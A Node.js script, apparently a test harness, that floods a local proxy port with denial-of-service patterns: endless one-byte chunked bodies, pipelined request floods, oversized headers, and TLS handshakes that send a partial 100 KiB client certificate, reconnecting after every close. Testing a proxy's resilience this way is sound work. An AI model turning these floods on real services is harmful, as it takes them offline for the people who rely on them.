// A client that attacks a port, as a process of its own: node attacker.mjs ATTACK PORT CONNECTIONS [tls].
// Every connection that ends is opened again. The first argument names one of these:
import { connect as connectTcp } from 'node:net'
import { connect as connectTls } from 'node:tls'

const HOST = 'Host: localhost\r\n'
const CHUNKED = `${HOST}Transfer-Encoding: chunked\r\n\r\n`
const CALL = 'POST /rest/isales/v1/openapi/obs/business/tasks HTTP/1.1\r\n'
const ONE_BYTE = '1\r\nx\r\n'.repeat(10_000)

/** Bytes of the beginning of each connection, and bytes that are repeated while the proxy takes them. */
const ATTACKS = {
  'refused-chunks': [`POST /elsewhere HTTP/1.1\r\n${CHUNKED}`, ONE_BYTE],
  'accepted-chunks': [CALL + CHUNKED, ONE_BYTE],
  'pipelined-flood': ['', 'GET / HTTP/1.1\r\n\r\n'.repeat(3600)],
  'heads-ahead': [
    `${CALL}${HOST}Content-Length: 2\r\n\r\n{}`,
    `${CALL}${HOST}X: ${'x'.repeat(15_000)}\r\nContent-Length: 2\r\n\r\n{}`,
  ],
}

/** A ClientHello of TLS 1.2: ECDHE with AES-128-GCM, on X25519, with ECDSA or RSA signatures. */
const EXTENSIONS = '000a00060004001d0017000b00020100000d00080006040304010804'
const CIPHERS = '0004c02bc02f0100'
const HELLO = record(
  handshake(1, Buffer.from(`0303${'11'.repeat(32)}00${CIPHERS}001c${EXTENSIONS}`, 'hex')),
)
/** A client certificate of 100 KiB, without its end. */
const HALF_CERTIFICATE = (() => {
  const message = handshake(11, Buffer.alloc(100 * 1024 - 4)).subarray(0, 99 * 1024)
  const parts = []
  for (let at = 0; at < message.length; at += 16_000)
    parts.push(record(message.subarray(at, at + 16_000)))
  return Buffer.concat(parts)
})()

function handshake(type, body) {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(type * 2 ** 24 + body.length)
  return Buffer.concat([head, body])
}

function record(content) {
  const head = Buffer.from([22, 3, 3, 0, 0])
  head.writeUInt16BE(content.length, 3)
  return Buffer.concat([head, content])
}

function attack(name, port, isTls) {
  // Continues to send after the proxy has closed its side.
  const place = { host: '127.0.0.1', port, rejectUnauthorized: false, allowHalfOpen: true }
  const socket = isTls ? connectTls(place) : connectTcp(place)
  socket.on('error', () => undefined).once('connect', () => process.stdout.write('.'))
  socket.on('close', () => setTimeout(() => attack(name, port, isTls), 10))
  if (name === 'half-certificate') {
    socket.on('end', () => socket.destroy()).write(HELLO)
    return void socket.once('data', () => socket.resume().write(HALF_CERTIFICATE))
  }
  const [first, more] = ATTACKS[name]
  const send = () => {
    while (socket.writable && socket.write(more));
  }
  socket.resume().write(first)
  // Refused chunks follow their response.
  const begin = () => setTimeout(() => socket.on('drain', send) && send(), 50)
  socket.once(isTls ? 'secureConnect' : 'connect', begin)
}

const [name, port, connections, tls] = process.argv.slice(2)
for (let n = 0; n < Number(connections); n += 1) attack(name, Number(port), tls === 'tls')
